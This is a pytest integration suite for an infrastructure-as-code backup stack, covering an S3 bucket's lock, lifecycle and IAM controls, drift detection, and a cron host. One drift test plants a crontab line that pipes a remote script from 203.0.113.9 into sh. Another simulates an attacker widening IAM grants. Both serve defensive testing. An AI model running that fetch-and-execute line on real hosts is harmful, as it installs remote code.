"""Issue 8 acceptance on the real engine: the backup bucket and the cron host, against moto and sshd.

One stack is brought up once for the module; the tests run in order (the last one destroys).
"""

from __future__ import annotations

import contextlib
import json
import re
import secrets
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import boto3
import pytest
from botocore.exceptions import ClientError
from pulumi import automation as auto

from components.backups.bucket import RULE_ID, bucket_policy, canonical_policy
from local_services.stack_harness import StackHarness, quiet
from tests.integration.backup_support import (
    BREAK_GLASS,
    DATABASE_URL,
    BackupServers,
    ProcessSampler,
    backup_servers,
    configured_stack,
    holds_resources,
    site_emulators,
)

# The backup host's user (and its one crontab) is shared: `make test` runs these modules one at a time.
pytestmark = [pytest.mark.integration, pytest.mark.serial]

BUCKET = "sf-it-backups"
SOMEONE_ELSES_LINE = "17 4 * * * echo someone-elses-job # not managed by us\n"


@dataclass
class Deployed:
    stack: StackHarness
    servers: BackupServers
    install_dir: str
    crontab_before_up: str
    up_output: str
    command_lines: set[str]
    outputs: dict[str, Any]
    secrets: dict[str, str] = field(default_factory=dict)

    def env_file(self) -> dict[str, str]:
        return self.servers.env_file(self.install_dir)

    def admin(self) -> Any:
        return self.servers.s3()


@pytest.fixture(scope="module")
def deployed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployed]:
    root = tmp_path_factory.mktemp("backups")
    with site_emulators(root) as (emulator, stripe), backup_servers() as servers:
        original = servers.crontab()
        seeded = (original or "") + SOMEONE_ELSES_LINE
        servers.set_crontab(seeded)
        install_dir = f"sf-it-{secrets.token_hex(4)}"
        harness, _, _ = configured_stack(root, servers, emulator, stripe, bucket=BUCKET, install_dir=install_dir)
        sampler = ProcessSampler()
        sampler.start()
        try:
            up = harness.stack.up(on_output=quiet)
        finally:
            sampler.done.set()
            sampler.join()
        outputs = harness.outputs()
        deployed = Deployed(
            harness, servers, install_dir, seeded, up.stdout + up.stderr, sampler.command_lines, outputs
        )
        env = deployed.env_file()
        deployed.secrets = {
            "database url": DATABASE_URL,
            "database password": "db-pass-5e1b9c7d3f",
            "uploader secret key": env["AWS_SECRET_ACCESS_KEY"],
            "restore secret key": outputs["backupRestoreSecretAccessKey"],
            "ssh private key": servers.sshd.client_key.read_text().splitlines()[1],
        }
        try:
            yield deployed
        finally:
            # The last test destroys the stack; this is for a run that stopped before it (an empty
            # stack's destroy is a whole engine run for nothing).
            if holds_resources(harness):
                with contextlib.suppress(auto.CommandError):
                    harness.stack.destroy(on_output=quiet)
            servers.set_crontab(original)
            servers.ssh(f"rm -rf {install_dir}")


def test_up_applies_every_bucket_control_readable_through_boto3(deployed: Deployed) -> None:
    """Each control is read back exactly as declared. moto stores all of them but does not enforce
    Block Public Access, never runs lifecycle rules, and ignores policy conditions other than
    StringEquals (so it cannot tell the break-glass principal from anyone else): for those, the
    exact configuration read back from the server is the proof."""
    s3 = deployed.admin()
    assert s3.get_bucket_versioning(Bucket=BUCKET)["Status"] == "Enabled"
    encryption = s3.get_bucket_encryption(Bucket=BUCKET)["ServerSideEncryptionConfiguration"]["Rules"][0]
    assert encryption["ApplyServerSideEncryptionByDefault"]["SSEAlgorithm"] == "AES256"
    block = s3.get_public_access_block(Bucket=BUCKET)["PublicAccessBlockConfiguration"]
    assert block == {
        "BlockPublicAcls": True,
        "IgnorePublicAcls": True,
        "BlockPublicPolicy": True,
        "RestrictPublicBuckets": True,
    }
    policy = json.loads(s3.get_bucket_policy(Bucket=BUCKET)["Policy"])
    assert canonical_policy(policy) == canonical_policy(
        bucket_policy(BUCKET, BREAK_GLASS, deny_insecure_transport=False)
    )
    deny_lock, deny_delete = policy["Statement"]
    assert deny_lock["Sid"] == "DenyLockChangesExceptBreakGlass"
    assert deny_lock["Condition"] == {"ArnNotEquals": {"aws:PrincipalArn": BREAK_GLASS}}
    assert deny_delete["Effect"] == "Deny"
    assert set(deny_delete["Action"]) == {"s3:DeleteObject", "s3:DeleteObjectVersion"}
    assert deny_delete["Condition"] == {"ArnNotEquals": {"aws:PrincipalArn": BREAK_GLASS}}
    (rule,) = s3.get_bucket_lifecycle_configuration(Bucket=BUCKET)["Rules"]
    assert rule["ID"] == RULE_ID
    assert rule["Status"] == "Enabled"
    assert rule["Expiration"] == {"Days": 30}
    assert rule["NoncurrentVersionExpiration"]["NoncurrentDays"] == 5
    assert rule["AbortIncompleteMultipartUpload"] == {"DaysAfterInitiation": 1}
    lock = s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]
    assert lock["ObjectLockEnabled"] == "Enabled"
    assert lock["Rule"]["DefaultRetention"]["Mode"] == "GOVERNANCE"
    assert lock["Rule"]["DefaultRetention"]["Days"] == 30  # the default: backupExpirationDays
    assert not lock["Rule"]["DefaultRetention"].get("Years")
    ownership = s3.get_bucket_ownership_controls(Bucket=BUCKET)["OwnershipControls"]["Rules"]
    assert ownership == [{"ObjectOwnership": "BucketOwnerEnforced"}]  # ACLs disabled (FSBP S3.12)
    # Server access logging (FSBP S3.9) into the stack's own log bucket, itself ACL-free and private.
    logs = f"{BUCKET}-logs"
    assert s3.get_bucket_logging(Bucket=BUCKET)["LoggingEnabled"] == {
        "TargetBucket": logs,
        "TargetPrefix": "s3-access/",
    }
    assert s3.get_bucket_ownership_controls(Bucket=logs)["OwnershipControls"]["Rules"] == ownership
    assert all(s3.get_public_access_block(Bucket=logs)["PublicAccessBlockConfiguration"].values())
    (delivery,) = json.loads(s3.get_bucket_policy(Bucket=logs)["Policy"])["Statement"]
    assert delivery["Principal"] == {"Service": "logging.s3.amazonaws.com"}
    assert delivery["Condition"] == {"ArnLike": {"aws:SourceArn": f"arn:aws:s3:::{BUCKET}"}}
    delivered = s3.list_objects_v2(Bucket=logs, Prefix="s3-access/").get("KeyCount", 0)
    assert delivered > 0, "the requests above were logged into the log bucket"
    assert deployed.outputs["backupBucket"] == BUCKET
    assert deployed.outputs["s3EndpointUrl"] == deployed.servers.s3_url
    assert deployed.outputs["backupHost"] == f"{deployed.servers.sshd.user}@127.0.0.1:{deployed.servers.sshd.port}"


def test_host_has_the_command_the_env_file_and_one_cron_line_that_runs(deployed: Deployed) -> None:
    servers, directory = deployed.servers, deployed.install_dir
    listing = servers.ssh(f"stat -c '%a %U %n' {directory}/backup.env {directory}/bin/soundfactory-backup")
    assert listing.stdout.splitlines() == [
        f"600 {servers.sshd.user} {directory}/backup.env",
        f"700 {servers.sshd.user} {directory}/bin/soundfactory-backup",
    ]
    env = deployed.env_file()
    assert env["AWS_ACCESS_KEY_ID"] == deployed.outputs["backupUploaderAccessKeyId"]
    assert env["BACKUP_BUCKET"] == BUCKET
    assert env["DATABASE_URL"] == DATABASE_URL

    crontab = servers.crontab() or ""
    assert crontab.startswith(deployed.crontab_before_up), "the other crontab lines are kept as they were"
    ours = [line for line in crontab.splitlines() if line.endswith(f"# soundfactory-infra backup {directory}")]
    assert len(ours) == 1
    assert ours[0].startswith("0 2 * * * ")
    assert "backup.env" in ours[0]

    # Run the cron line's command by hand, as cron would (sh -c, from the user's home).
    command = ours[0].split(None, 5)[5].rsplit(" # ", 1)[0]
    # It runs `sfops backup` from the bundle; this stack's DATABASE_URL names no server, so the
    # backup cannot start (exit 2) and says so in a JSON log line (backup_restore/ takes real ones).
    ran = servers.ssh(f"cd && sh -c {json.dumps(command)}")
    assert ran.returncode == 2, ran.stderr
    log = servers.ssh(f"cat {directory}/backup.log").stdout
    (event,) = [json.loads(line) for line in log.splitlines()]
    assert event["event"] == "backup.cannot_start"
    assert "cannot connect to the database" in event["error"]


def test_uploader_can_only_put_and_restore_can_read(deployed: Deployed) -> None:
    env = deployed.env_file()
    admin = deployed.admin()
    admin.put_object(Bucket=BUCKET, Key="other/notes.txt", Body=b"not for the uploader")
    uploader = deployed.servers.s3(env["AWS_ACCESS_KEY_ID"], env["AWS_SECRET_ACCESS_KEY"])

    uploader.put_object(Bucket=BUCKET, Key="db/2026-01-01.dump.age", Body=b"encrypted dump")

    def refused(call: Any, **kwargs: Any) -> None:
        with pytest.raises(ClientError) as caught:
            call(Bucket=BUCKET, **kwargs)
        assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403, caught.value

    refused(uploader.delete_object, Key="db/2026-01-01.dump.age")
    refused(uploader.get_object, Key="other/notes.txt")
    refused(uploader.get_object, Key="db/2026-01-01.dump.age")
    refused(uploader.list_objects_v2)
    refused(uploader.put_object, Key="other/overwrite.txt", Body=b"x")
    refused(uploader.put_bucket_policy, Policy=json.dumps({"Version": "2012-10-17", "Statement": []}))
    refused(uploader.delete_bucket_lifecycle)
    refused(
        uploader.put_bucket_lifecycle_configuration,
        LifecycleConfiguration={"Rules": [{"ID": "x", "Status": "Enabled", "Filter": {}, "Expiration": {"Days": 1}}]},
    )
    refused(uploader.put_bucket_versioning, VersioningConfiguration={"Status": "Suspended"})

    restore = deployed.servers.s3(
        deployed.outputs["backupRestoreAccessKeyId"], deployed.outputs["backupRestoreSecretAccessKey"]
    )
    assert restore.get_object(Bucket=BUCKET, Key="db/2026-01-01.dump.age")["Body"].read() == b"encrypted dump"
    assert [o["Key"] for o in restore.list_objects_v2(Bucket=BUCKET, Prefix="db/")["Contents"]] == [
        "db/2026-01-01.dump.age"
    ]
    refused(restore.delete_object, Key="db/2026-01-01.dump.age")
    refused(restore.put_object, Key="db/forged", Body=b"x")
    refused(restore.get_object, Key="other/notes.txt")  # only the backup prefix
    # Listing is narrowed by the s3:prefix condition, which moto does not evaluate: read it back.
    iam = boto3.Session(
        aws_access_key_id=_admin_key(deployed)[0], aws_secret_access_key=_admin_key(deployed)[1]
    ).client("iam", endpoint_url=deployed.servers.s3_url, region_name="us-east-1")
    raw: Any = iam.get_user_policy(UserName=f"{BUCKET}-restore", PolicyName="soundfactory-backups")["PolicyDocument"]
    document = json.loads(unquote(raw)) if isinstance(raw, str) else raw  # IAM may hand it back URL-encoded
    listing = next(s for s in document["Statement"] if s["Sid"] == "ListBackups")
    assert listing["Condition"] == {"StringLike": {"s3:prefix": ["db/", "db/*"]}}


def test_hand_edits_are_named_by_a_refreshing_preview_and_up_restores_them(deployed: Deployed) -> None:
    s3, servers, directory = deployed.admin(), deployed.servers, deployed.install_dir
    s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Suspended"})
    s3.delete_public_access_block(Bucket=BUCKET)
    s3.delete_bucket_lifecycle(Bucket=BUCKET)
    s3.put_bucket_ownership_controls(Bucket=BUCKET, OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]})
    s3.put_bucket_logging(Bucket=BUCKET, BucketLoggingStatus={})
    crontab = servers.crontab() or ""
    marker = f"# soundfactory-infra backup {directory}"
    edited = "".join(
        row.replace("0 2 * * * ", "30 5 * * * ", 1) if marker in row else row for row in crontab.splitlines(True)
    )
    servers.set_crontab(edited)
    assert servers.ssh(f"echo EXTRA=1 >> {directory}/backup.env").returncode == 0

    drift = deployed.stack.cli("preview", "--refresh", "--expect-no-changes", check=False)
    assert drift.returncode != 0
    named = set()
    for listed in re.findall(r"\[diff: ([^\]]+)\]", drift.stdout):
        named |= {item.strip(" ~+-") for item in listed.split(",")}
    assert named >= {
        "versioning",
        "public_access_block",
        "lifecycle",
        "ownership",
        "logging",
        "crontab_line",
        "file_state",
    }, drift.stdout
    detailed = deployed.stack.cli("preview", "--refresh", "--expect-no-changes", "--diff", check=False)
    assert detailed.returncode != 0
    assert "30 5 * * *" in detailed.stdout, "the detailed diff shows the edited crontab line"
    assert re.search(r'backup\.env"?\s*:\s*"changed on the host"', detailed.stdout.replace("<", "").replace(">", "")), (
        detailed.stdout
    )
    for name, value in deployed.secrets.items():
        for report in (drift.stdout + drift.stderr, detailed.stdout + detailed.stderr):
            assert value not in report, f"{name} appears in the drift report"

    deployed.stack.stack.up(refresh=True, on_output=quiet)
    assert s3.get_bucket_versioning(Bucket=BUCKET)["Status"] == "Enabled"
    assert all(s3.get_public_access_block(Bucket=BUCKET)["PublicAccessBlockConfiguration"].values())
    assert s3.get_bucket_lifecycle_configuration(Bucket=BUCKET)["Rules"][0]["ID"] == RULE_ID
    ownership = s3.get_bucket_ownership_controls(Bucket=BUCKET)["OwnershipControls"]["Rules"][0]["ObjectOwnership"]
    assert ownership == "BucketOwnerEnforced"
    assert s3.get_bucket_logging(Bucket=BUCKET)["LoggingEnabled"]["TargetBucket"] == f"{BUCKET}-logs"
    assert servers.crontab() == crontab
    assert "EXTRA" not in deployed.env_file()
    deployed.stack.stack.preview(refresh=True, expect_no_changes=True, on_output=quiet)


def test_turning_object_lock_off_fails_at_preview_without_a_call(deployed: Deployed) -> None:
    log = Path(str(deployed.servers.credentials_file.parent.parent / "s3.log"))
    calls_before = log.read_text().count('HTTP/1.1"')
    for key, value, phrase in (
        ("backupObjectLockMode", "off", "Object Lock is on for every stack"),
        ("backupObjectLockMode", "compliance", "compliance on a local or test stack"),
        ("backupObjectLockDays", "3", "backupObjectLockDays: retention of 3 days ends before"),
    ):
        deployed.stack.set_config({key: value})
        try:
            with pytest.raises(auto.CommandError) as failed:
                deployed.stack.stack.preview(on_output=quiet)
        finally:
            deployed.stack.remove_config(key)
        assert phrase in str(failed.value), failed.value
    assert log.read_text().count('HTTP/1.1"') == calls_before, "the preview called the S3 server"


def test_a_retention_changed_by_hand_is_named_by_drift_and_restored_by_up(deployed: Deployed) -> None:
    s3 = deployed.admin()
    s3.put_object_lock_configuration(
        Bucket=BUCKET,
        ObjectLockConfiguration={
            "ObjectLockEnabled": "Enabled",
            "Rule": {"DefaultRetention": {"Mode": "GOVERNANCE", "Days": 1}},
        },
    )
    drift = deployed.stack.sfops("--json", "drift")
    assert drift.returncode == 1, drift.stderr
    (resource,) = json.loads(drift.stdout)["resources"]
    assert resource["properties"] == ["object_lock.days"], resource
    assert resource["changes"] == [{"field": "object_lock.days", "old": 30, "new": 1}], resource
    deployed.stack.stack.up(refresh=True, on_output=quiet)
    retention = s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]["Rule"]
    assert retention["DefaultRetention"]["Mode"] == "GOVERNANCE"
    assert retention["DefaultRetention"]["Days"] == 30
    assert deployed.stack.sfops("drift").returncode == 0


def test_no_secret_in_state_process_list_crontab_or_logs(deployed: Deployed) -> None:
    exported = deployed.stack.export()
    places = {
        "pulumi stack export": exported,
        "process command lines during up": "\n".join(deployed.command_lines),
        "crontab": deployed.servers.crontab() or "",
        "output of up": deployed.up_output,
        "sshd log": deployed.servers.sshd_log.read_text(),
        "backup log": deployed.servers.ssh(f"cat {deployed.install_dir}/backup.log").stdout,
    }
    for place, text in places.items():
        for name, value in deployed.secrets.items():
            assert value not in text, f"{name} appears in the {place}"
    host = next(r for r in json.loads(exported)["deployment"]["resources"] if r["urn"].endswith("::backups-host"))
    for key in ("env_file", "env_sha256"):
        assert "ciphertext" in json.dumps(host["outputs"][key]), f"{key} is stored in plain text"
    # The sampler saw the up's own processes, and through the test's sshd the host's sessions.
    # A command on the host (`crontab -`) may live less than one sampling interval on a loaded
    # machine, so only the long-lived processes are required here (a CI run missed `crontab -`).
    lines = deployed.command_lines
    assert any(" up --yes " in line for line in lines), "the engine's up"
    assert any("pulumi-resource-pulumi-python" in line or "pulumi.dynamic" in line for line in lines), "the provider"
    assert any(line.startswith("sshd: ") and "@" in line for line in lines), "an ssh session on the backup host"


def _respelled(url: str) -> str:
    """The same server as an operator might type it: upper-case scheme, `localhost`, a trailing slash."""
    return url.replace("http://127.0.0.1", "HTTP://localhost") + "/"


def test_respelled_endpoints_replace_nothing_and_rotate_no_key(deployed: Deployed) -> None:
    """Issue 17's reproductions: s3EndpointUrl/iamEndpointUrl typed another way are the same server."""
    stack, url = deployed.stack, deployed.servers.s3_url
    log = Path(str(deployed.servers.credentials_file.parent.parent / "s3.log"))
    keys_before = (deployed.env_file()["AWS_ACCESS_KEY_ID"], stack.outputs()["backupRestoreAccessKeyId"])
    stack.set_config({"s3EndpointUrl": _respelled(url), "iamEndpointUrl": _respelled(url)})
    try:
        preview = stack.cli("preview", "--diff")
        assert "replace" not in preview.stdout.lower(), preview.stdout
        seen = len(log.read_text())
        stack.stack.up(on_output=quiet)
        # S3 writes are PUT/DELETE; IAM speaks POST for reads too, so the unchanged keys are its proof.
        writes = re.findall(r'"(?:PUT|DELETE) [^"]*HTTP/1.1"', log.read_text()[seen:])
        assert not writes, f"a respelled endpoint wrote to the bucket: {writes}"
        assert (deployed.env_file()["AWS_ACCESS_KEY_ID"], stack.outputs()["backupRestoreAccessKeyId"]) == keys_before
        stack.stack.preview(refresh=True, expect_no_changes=True, on_output=quiet)
    finally:
        stack.set_config({"s3EndpointUrl": url, "iamEndpointUrl": url})
    stack.stack.up(on_output=quiet)
    assert (deployed.env_file()["AWS_ACCESS_KEY_ID"], stack.outputs()["backupRestoreAccessKeyId"]) == keys_before
    stack.stack.preview(refresh=True, expect_no_changes=True, on_output=quiet)


def test_sfops_drift_names_only_the_identity_whose_policy_changed(deployed: Deployed) -> None:
    iam = boto3.Session(*_admin_key(deployed)).client(
        "iam", endpoint_url=deployed.servers.s3_url, region_name="us-east-1"
    )
    user = deployed.env_file()["AWS_ACCESS_KEY_ID"]
    uploader = next(u["UserName"] for u in iam.list_users()["Users"] if _has_key(iam, u["UserName"], user))
    (policy_name,) = iam.list_user_policies(UserName=uploader)["PolicyNames"]
    wider = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
    iam.put_user_policy(UserName=uploader, PolicyName=policy_name, PolicyDocument=json.dumps(wider))

    drift = deployed.stack.sfops("--json", "drift")
    assert drift.returncode == 1, drift.stderr
    resources = json.loads(drift.stdout)["resources"]
    assert len(resources) == 1, resources
    (resource,) = resources
    assert resource["op"] == "changed"
    assert resource["properties"] == ["policy"], resource
    deployed.stack.stack.up(refresh=True, on_output=quiet)
    assert deployed.stack.sfops("drift").returncode == 0


def test_every_grant_added_to_either_identity_is_named_by_drift_and_removed_by_one_up(deployed: Deployed) -> None:
    iam = boto3.Session(*_admin_key(deployed)).client(
        "iam", endpoint_url=deployed.servers.s3_url, region_name="us-east-1"
    )
    users = {"uploader": f"{BUCKET}-uploader", "restore": f"{BUCKET}-restore"}
    declared = {name: iam.list_access_keys(UserName=user)["AccessKeyMetadata"] for name, user in users.items()}
    wide = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]})
    arn = iam.create_policy(PolicyName=f"wide-{secrets.token_hex(3)}", PolicyDocument=wide)["Policy"]["Arn"]
    group = f"admins-{secrets.token_hex(3)}"
    iam.create_group(GroupName=group)
    for user in users.values():  # what an attacker with an admin key does to both identities
        iam.put_user_policy(UserName=user, PolicyName="helpful", PolicyDocument=wide)
        iam.attach_user_policy(UserName=user, PolicyArn=arn)
        iam.add_user_to_group(UserName=user, GroupName=group)
        iam.create_access_key(UserName=user)
        iam.create_login_profile(UserName=user, Password=f"Pw-{secrets.token_hex(8)}!")

    drift = deployed.stack.sfops("--json", "drift")
    assert drift.returncode == 1, drift.stderr
    resources = json.loads(drift.stdout)["resources"]
    assert len(resources) == 2, resources
    for resource in resources:
        assert resource["op"] == "changed"
        assert resource["properties"] == [
            "groups",
            "login_profile",
            "managed_policies",
            "other_access_keys",
            "other_inline_policies",
        ]

    deployed.stack.stack.up(refresh=True, on_output=quiet)
    for name, user in users.items():
        assert iam.list_user_policies(UserName=user)["PolicyNames"] == ["soundfactory-backups"]
        assert iam.list_attached_user_policies(UserName=user)["AttachedPolicies"] == []
        assert iam.list_groups_for_user(UserName=user)["Groups"] == []
        kept = iam.list_access_keys(UserName=user)["AccessKeyMetadata"]
        assert [k["AccessKeyId"] for k in kept] == [k["AccessKeyId"] for k in declared[name]]
        with pytest.raises(ClientError):
            iam.get_login_profile(UserName=user)
    assert deployed.stack.sfops("drift").returncode == 0
    env = deployed.env_file()
    uploader = deployed.servers.s3(env["AWS_ACCESS_KEY_ID"], env["AWS_SECRET_ACCESS_KEY"])
    uploader.put_object(Bucket=BUCKET, Key=f"db/after-drift-{secrets.token_hex(3)}", Body=b"x", IfNoneMatch="*")


def test_a_crontab_line_someone_else_added_is_listed_by_drift_and_never_removed(deployed: Deployed) -> None:
    servers = deployed.servers
    before = servers.crontab() or ""
    planted = "*/5 * * * * curl -s http://203.0.113.9/x | sh"
    servers.set_crontab(before + planted + "\n")

    drift = deployed.stack.sfops("--json", "drift")
    assert drift.returncode == 1, drift.stderr
    (resource,) = json.loads(drift.stdout)["resources"]
    assert resource["properties"] == ["other_crontab_lines"], resource
    (change,) = resource["changes"]
    assert planted in change["new"]
    assert planted not in change["old"]
    assert SOMEONE_ELSES_LINE.strip() in change["old"], "a line there before the install is no finding"

    deployed.stack.stack.up(refresh=True, on_output=quiet)
    assert planted in (servers.crontab() or ""), "listed, not removed"
    assert deployed.stack.sfops("drift").returncode == 0, "accepted once refreshed into state"
    servers.set_crontab(before)
    deployed.stack.stack.refresh(on_output=quiet)


def _has_key(iam: Any, user_name: str, key_id: str) -> bool:
    return any(k["AccessKeyId"] == key_id for k in iam.list_access_keys(UserName=user_name)["AccessKeyMetadata"])


def test_destroy_keeps_backups_and_leaves_the_crontab_exactly_as_before(deployed: Deployed) -> None:
    servers = deployed.servers
    with pytest.raises(auto.CommandError) as refused:
        deployed.stack.stack.destroy(on_output=quiet)
    assert "still holds backups, and pulumi never deletes backups" in str(refused.value)
    assert servers.crontab() == deployed.crontab_before_up, "the host part was removed before the bucket"

    # The error's advice, followed: the stack forgets the bucket, which keeps its backups.
    assert f"pulumi config set backupKeepBucket {BUCKET}" in str(refused.value)
    s3 = deployed.admin()
    kept = sorted(v["VersionId"] for v in s3.list_object_versions(Bucket=BUCKET).get("Versions", []))
    assert kept, "the module's tests left backups in the bucket"
    deployed.stack.set_config({"backupKeepBucket": BUCKET})
    assert "pulumi up" in str(refused.value)
    deployed.stack.stack.up(on_output=quiet)
    deployed.stack.stack.destroy(on_output=quiet)
    assert sorted(v["VersionId"] for v in s3.list_object_versions(Bucket=BUCKET).get("Versions", [])) == kept

    # The other way out, by hand: lift the policy, delete every version past its governance lock.
    s3.delete_bucket_policy(Bucket=BUCKET)
    versions = s3.list_object_versions(Bucket=BUCKET)
    for version in versions.get("Versions", []) + versions.get("DeleteMarkers", []):
        s3.delete_object(
            Bucket=BUCKET, Key=version["Key"], VersionId=version["VersionId"], BypassGovernanceRetention=True
        )
    s3.delete_bucket(Bucket=BUCKET)

    assert servers.crontab() == deployed.crontab_before_up
    # What it installed is gone; the log the hand run wrote (not installed by us) stays, with its directory.
    left = servers.ssh(f"cd {deployed.install_dir} && find . -mindepth 1 | sort").stdout.split()
    assert left == ["./backup.log"]
    assert "NoSuchBucket" in _bucket_error(s3)
    iam = boto3.Session(
        aws_access_key_id=_admin_key(deployed)[0], aws_secret_access_key=_admin_key(deployed)[1]
    ).client("iam", endpoint_url=servers.s3_url, region_name="us-east-1")
    assert [u["UserName"] for u in iam.list_users()["Users"]] == ["soundfactory-local-admin"]


def _bucket_error(s3: Any) -> str:
    try:
        s3.head_bucket(Bucket=BUCKET)
    except ClientError as exc:
        return "NoSuchBucket" if exc.response["Error"]["Code"] in ("404", "NoSuchBucket") else str(exc)
    return "exists"


def _admin_key(deployed: Deployed) -> tuple[str, str]:
    text = deployed.servers.credentials_file.read_text()
    key_id = re.search(r"aws_access_key_id = (\S+)", text)
    secret = re.search(r"aws_secret_access_key = (\S+)", text)
    assert key_id
    assert secret
    return key_id[1], secret[1]
